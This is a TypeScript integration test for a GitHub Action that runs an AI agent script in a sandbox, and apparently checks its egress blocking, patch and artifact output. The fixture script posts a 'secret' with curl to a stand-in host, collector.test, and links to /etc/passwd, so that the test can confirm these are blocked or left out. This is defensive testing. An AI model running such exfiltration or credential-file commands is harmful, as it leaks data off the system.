import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/report/report.js';
import { type ActRig, startActRig, type WorkflowRun } from './rig/act.js';
import { outputOf } from './rig/program.js';
import { makeRepository } from './rig/repository.js';
import { leftOf } from './rig/run-objects.js';
import { CHECKOUT, cagentStep, expression, KEEP_RESULTS } from './rig/steps.js';

const FILES = {
  'README.md': '# widget\n',
  '.agentignore': '*.pem\n',
  'key.pem': 'not for the agent\n',
  'agent.sh': `
echo 'Hello from the agent.' >> README.md
printf 'new\\n' > added.txt
mkdir -p .agent-scratch && ln -s /etc/passwd .agent-scratch/link && echo note > '.agent-scratch/a:b'
curl --silent --max-time 5 https://collector.test/ --data secret
getent hosts exfiltrated.collector.test
printf 'the last line has no end'
`,
};

let rig: ActRig;
let job: WorkflowRun;
let outputs: Readonly<Record<string, string>>;

beforeAll(async () => {
  rig = await startActRig();
  job = await rig.runJob(
    [
      CHECKOUT,
      cagentStep({ run: 'bash agent.sh', allow: 'allowed.test', 'artifact-name': 'results' }),
      { uses: 'org/download@v1', with: { name: 'results', path: `${expression('env.RESULTS')}/artifact` } },
      KEEP_RESULTS,
      { run: 'git status --porcelain > "$RESULTS/status"' },
    ],
    { files: FILES },
  );
  outputs = job.log.outputs('cagent');
});
afterAll(() => rig.close());

const read = (path: string): string => readFileSync(join(job.results, path), 'utf8');
const report = (): Report => JSON.parse(read('run/report.json')) as Report;

describe('a step that runs an agent', () => {
  it('succeeds, and its log has what the agent said, to the last line', () => {
    expect(job.exitCode, job.log.tail).toBe(0);
    expect(job.log.output('cagent')).toContain('the last line has no end\n');
  });

  it('sets every output that action.yml promises', () => {
    const directory = outputs['run-directory'] ?? '';
    expect(outputs).toEqual({
      conclusion: 'success',
      'exit-code': '0',
      'final-message': '',
      'structured-output': '',
      'session-id': '',
      'total-cost-usd': '',
      'input-tokens': '',
      'output-tokens': '',
      'cache-read-tokens': '',
      'cache-write-tokens': '',
      'run-directory': expect.stringMatching(/\/cagent\/\d{8}-\d{6}-[a-z2-9]{6}$/),
      'patch-file': `${directory}/changes.patch`,
      'patch-sha256': report().changes.patchSha256,
      'report-file': `${directory}/report.json`,
      'egress-report': `${directory}/egress.jsonl`,
      'egress-allowed-count': String(report().egress.allowed),
      'egress-blocked-count': String(report().egress.blocked),
      'changed-files': '2',
      'secrets-detected': '0',
      'artifact-url': expect.stringMatching(
        /^https:\/\/github\.com\/acme\/widget\/actions\/runs\/1\/artifacts\/\d+$/,
      ),
      'execution-time': expect.stringMatching(/^\d+\.\d$/),
    });
    expect(report().egress.blocked).toBeGreaterThanOrEqual(2);
  });

  it('leaves the checkout as it was', () => {
    expect(read('status')).toBe('');
  });

  it('the patch gives the tree of the agent on a clean clone', async () => {
    const clone = await makeRepository(join(job.results, 'clone'), FILES);
    await outputOf('git', ['-C', clone, 'apply', '--index', join(job.results, 'run/changes.patch')]);
    expect(readFileSync(join(clone, 'README.md'), 'utf8')).toBe('# widget\nHello from the agent.\n');
    expect(readFileSync(join(clone, 'added.txt'), 'utf8')).toBe('new\n');
  });

  it('the artifact, downloaded again, is the run directory', () => {
    for (const file of [
      'changes.patch',
      'report.json',
      'egress.jsonl',
      'changes.json',
      'plan.json',
      'agent.log',
    ]) {
      expect(read(`artifact/${file}`), file).toBe(read(`run/${file}`));
    }
  });

  it('what cannot be in an artifact is left out of it and told, the rest is uploaded', () => {
    expect(existsSync(join(job.results, 'artifact/scratch/link'))).toBe(false);
    const warnings = job.log.commands('cagent', 'warning').map(({ argument }) => argument);
    expect(warnings.join('\n')).toMatch(/files? cannot be in an artifact/);
  });

  it('the job summary is the summary of the run', () => {
    expect(job.log.summary('cagent')).toBe(read('run/summary.md'));
    expect(job.log.summary('cagent')).toContain('collector.test');
  });

  it('blocked hosts are annotated, one warning for each host', () => {
    const blocked = job.log
      .commands('cagent', 'warning')
      .filter(({ argument }) => argument.startsWith('Blocked: '));
    const hosts = blocked.map(({ argument }) => argument.split(/[ ,]/)[1]);
    expect([...hosts].sort()).toEqual(['collector.test', 'exfiltrated.collector.test']);
  });

  it('the log has a group for getting ready, one for the agent and one for the results', () => {
    expect(job.log.commands('cagent', 'group').map(({ argument }) => argument)).toEqual([
      'cagent: prepare the sandbox',
      'cagent: the agent',
      'cagent: results',
    ]);
  });

  it('nothing of the run is left', async () => {
    expect(job.log.result('cagent', 'Post')).toBe('success');
    expect(await leftOf(report().runId)).toEqual([]);
  });
});
